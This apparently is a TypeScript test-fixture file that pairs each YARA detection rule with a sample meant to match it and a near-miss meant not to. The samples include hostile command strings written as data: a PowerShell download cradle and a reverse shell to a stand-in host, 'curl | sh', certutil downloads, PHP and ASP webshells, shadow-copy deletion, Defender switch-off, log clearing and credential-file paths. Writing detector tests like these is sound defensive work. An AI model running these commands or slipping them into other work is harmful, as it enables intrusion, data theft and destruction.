import { join, le16, le32, put, raw, utf16le } from './build.ts';
import { makeElf, makePe } from './make-programs.ts';

/** For each rule of rules/yara a harmless file that it is about, and one that comes near and must not match. */

export interface YaraSample {
  readonly rule: string;
  readonly matching: Uint8Array;
  readonly other: Uint8Array;
}

const bytesOf = (what: string | Uint8Array): Uint8Array => (typeof what === 'string' ? raw(what) : what);
const of = (rule: string, matching: string | Uint8Array, other: string | Uint8Array): YaraSample => ({
  rule,
  matching: bytesOf(matching),
  other: bytesOf(other),
});
const hex = (text: string): Uint8Array => Uint8Array.from(Buffer.from(text.replaceAll(' ', ''), 'hex'));
const sections = (...names: readonly string[]): Uint8Array => makePe({ sections: names });
const program = (words: string): Uint8Array => makePe({ words });

function withoutStub(): Uint8Array {
  const bytes = makePe();
  bytes.fill(0, 0x40, 0x80);
  return bytes;
}

function farHeader(): Uint8Array {
  const bytes = makePe();
  return put(0x600 + bytes.length, [
    [0, 'MZ'],
    [0x3c, le32(0x600)],
    [0x600, bytes.subarray(0x80)],
  ]);
}

function withoutSections(words: string): Uint8Array {
  const bytes = makeElf(words);
  bytes.set(le16(0), 0x3c);
  return bytes;
}

const shortcut = (words: string): Uint8Array =>
  join(put(80, [[0, 'L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0F']]), utf16le(words));

const programs = (): readonly YaraSample[] => [
  of('packer_upx', sections('UPX0', 'UPX1'), sections('UPX0')),
  of('packer_aspack', sections('.aspack'), program('.aspack is a packer')),
  of('packer_themida', sections('.themida'), 'a text about .themida'),
  of('packer_vmprotect', sections('.vmp0'), program('.vmp0')),
  of('packer_mpress', sections('.MPRESS1'), 'a text about .MPRESS1'),
  of('packer_petite_fsg_nspack', sections('.petite'), sections('.pets')),
  of('bundle_pyinstaller', join(hex('4d45490c0b0a0b0e'), raw('_MEIPASS')), 'a text about _MEIPASS'),
  of('bundle_autoit', program('AU3!EA06'), program('AU3!EA')),
  of('installer_nsis', join(makePe(), hex('efbeadde4e756c6c736f6674496e7374')), program('NullsoftInst')),
  of('pe_without_stub_words', withoutStub(), makePe()),
  of('pe_header_far', farHeader(), makePe()),
  of(
    'pe_injection_apis',
    program('WriteProcessMemory\0CreateRemoteThread\0VirtualAllocEx\0'),
    program('WriteProcessMemory\0'),
  ),
  of(
    'pe_keyboard_apis',
    program('GetAsyncKeyState\0GetKeyboardState\0GetForegroundWindow\0'),
    program('GetAsyncKeyState\0'),
  ),
  of('pe_memory_dump_api', program('MiniDumpWriteDump\0lsass.exe'), program('MiniDumpWriteDump\0')),
  of('elf_ld_preload', makeElf('/etc/ld.so.preload'), 'a text about /etc/ld.so.preload'),
  of('elf_packed_by_hand', withoutSections('mprotect'), makeElf('mprotect')),
  of('go_build', makeElf('Go build ID: "abc"'), makeElf('Go build')),
];

const scripts = (): readonly YaraSample[] => [
  of(
    'powershell_download_cradle',
    "IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')",
    'iwr DownloadString',
  ),
  of(
    'powershell_encoded_command',
    'powershell.exe -nop -enc SGVsbG8gd29ybGQgaGVsbG8=',
    'powershell.exe -file hello.ps1',
  ),
  of('powershell_hidden_window', 'powershell -w hidden -ep bypass -file x.ps1', 'powershell -ep bypass -file x.ps1'),
  of('powershell_amsi_bypass', utf16le('AmsiUtils amsiInitFailed'), 'AmsiUtils'),
  of(
    'powershell_reflective_load',
    '[Reflection.Assembly]::Load([Convert]::FromBase64String($x))',
    '[Reflection.Assembly]::LoadFile($x)',
  ),
  of('javascript_character_codes', 'eval(String.fromCharCode(97,108))', 'String.fromCharCode(97,108)'),
  of('javascript_obfuscator_names', '_0x12ab '.repeat(12), '_0x12ab '.repeat(5)),
  of('script_shell_object', 'CreateObject("WScript.Shell").Run "calc"', program('WScript.Shell .Run')),
  of('script_file_download_objects', 'MSXML2.XMLHTTP ADODB.Stream x.SaveToFile "a"', 'MSXML2.XMLHTTP ADODB.Stream'),
  of('batch_variable_slicing', '%abc:~1,2%'.repeat(10), '%date:~1,2%%date:~4,2%'),
  of('living_off_the_land_download', 'certutil -f -urlcache http://a.example/x x', 'certutil -hashfile x SHA256'),
  of('shell_download_and_run', 'curl -s http://a.example/x | sh', 'curl -s http://a.example/x -o x'),
  of('python_exec_decoded', "exec(base64.b64decode('aGVsbG8='))", "x = base64.b64decode('aGVsbG8=')"),
  of('encoded_vbscript', '#@~^DgAAAA==xxxx^#~@', '#@~^ is the mark'),
];

const network = (): readonly YaraSample[] => [
  of('reverse_shell_unix', 'bash -i >& /dev/tcp/a.example/4444 0>&1', 'cat /dev/tcp'),
  of('default_pipe_names', '\\\\.\\pipe\\msagent_a1', '\\\\.\\pipe\\spoolss'),
  of(
    'chat_service_as_channel',
    `https://api.telegram.org/bot123456789:${'A'.repeat(35)}/sendMessage`,
    'https://api.telegram.org/',
  ),
  of('hidden_service_address', `http://${'a2'.repeat(28)}.onion/`, 'http://short.onion/'),
  of('mining_pool_words', 'stratum+tcp://pool.example:3333', 'a stratum of rock'),
  of('paste_service_fetch', 'https://pastebin.com/raw/AbCd1234', 'https://pastebin.com/about'),
];

const system = (): readonly YaraSample[] => [
  of('credential_stores_browser', utf16le('\\Google\\Chrome\\User Data Login Data Local State'), 'Login Data'),
  of('credential_files_unix', '~/.ssh/id_rsa ~/.aws/credentials /etc/shadow', '~/.ssh/id_rsa'),
  of('wallet_files', 'wallet.dat \\Electrum\\wallets', 'wallet.dat'),
  of(
    'run_key_persistence',
    'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
    'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Runtime',
  ),
  of('scheduled_task_creation', 'schtasks /create /tn x /tr y', 'schtasks /query'),
  of('cron_or_unit_persistence', 'echo x >> /etc/crontab', 'cat /etc/crontab'),
  of('backup_deletion', 'vssadmin delete shadows /all', 'vssadmin list shadows'),
  of(
    'ransom_note_words',
    'All your files are gone. Pay bitcoin for the decryption key. Use Tor Browser.',
    'All your files are safe.',
  ),
  of('protection_switched_off', 'Set-MpPreference -DisableRealtimeMonitoring 1', 'Get-MpPreference'),
  of('event_log_clearing', 'wevtutil cl System', 'wevtutil qe System'),
  of('debugger_checks', 'IsDebuggerPresent CheckRemoteDebuggerPresent OutputDebugString', 'IsDebuggerPresent'),
  of('virtual_machine_checks', 'VBoxService.exe vmtoolsd.exe', 'vmtoolsd.exe'),
  of('sandbox_names', 'procmon.exe wireshark.exe fiddler.exe', 'procmon.exe'),
];

const crypto = (): readonly YaraSample[] => [
  of('crypto_aes_table', hex('637c777bf26b6fc53001672bfed7ab76'), hex('637c777bf26b6fc53001672bfed7ab77')),
  of('crypto_aes_inverse_table', hex('52096ad53036a538bf40a39e81f3d7fb'), hex('52096ad53036a538bf40a39e81f3d700')),
  of('crypto_sha256_constants', hex('982f8a4291443771cffbc0b5a5dbb5e9'), hex('982f8a4291443771')),
  of('crypto_md5_constants', hex('78a46ad756b7c7e8db702024eecebdc1'), hex('78a46ad756b7c7e8')),
  of('crypto_chacha_salsa', 'expand 32-byte k', 'expand 16-byte k'),
  of('crypto_public_key_blob', hex('0602000000a4000052534131'), 'RSA1'),
  of('private_key_text', '-----BEGIN RSA PRIVATE KEY-----', '-----BEGIN PUBLIC KEY-----'),
];

const documents = (): readonly YaraSample[] => [
  of('eicar_test_file', 'X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-', 'a text about EICAR'),
  of('office_automatic_macro', 'Sub AutoOpen()', 'Auto Open the door'),
  of(
    'office_remote_template',
    'x/relationships/attachedTemplate" Target="https://a.example/t.dotm" TargetMode="External"',
    'x/relationships/attachedTemplate" Target="t.dotm"',
  ),
  of('office_dde_field', 'DDEAUTO c:\\windows\\system32\\cmd.exe', 'DDE is old'),
  of('rtf_object_control', '{\\rtf1\\object\\objupdate{\\objdata 01}}', '{\\rtf1\\object{\\objdata 01}}'),
  of('pdf_automatic_action', '%PDF-1.4 /OpenAction << /S /JavaScript >>', '%PDF-1.4 /S /JavaScript'),
  of('shortcut_with_command', shortcut('powershell.exe'), shortcut('notepad.exe')),
  of('html_smuggling', 'new Blob([new Uint8Array(x)]); URL.createObjectURL(b); a.click()', 'new Blob([x])'),
  of('webshell_php', "<?php system($_GET['c']); ?>", "<?php echo $_GET['c']; ?>"),
  of('webshell_decoded_php', "<?php eval(base64_decode('x')); ?>", "<?php base64_decode('x'); ?>"),
  of('webshell_asp_jsp', '<% eval request("x") %>', '<% response.write request("x") %>'),
];

export const yaraSamples = (): readonly YaraSample[] => [
  ...programs(),
  ...scripts(),
  ...network(),
  ...system(),
  ...crypto(),
  ...documents(),
];
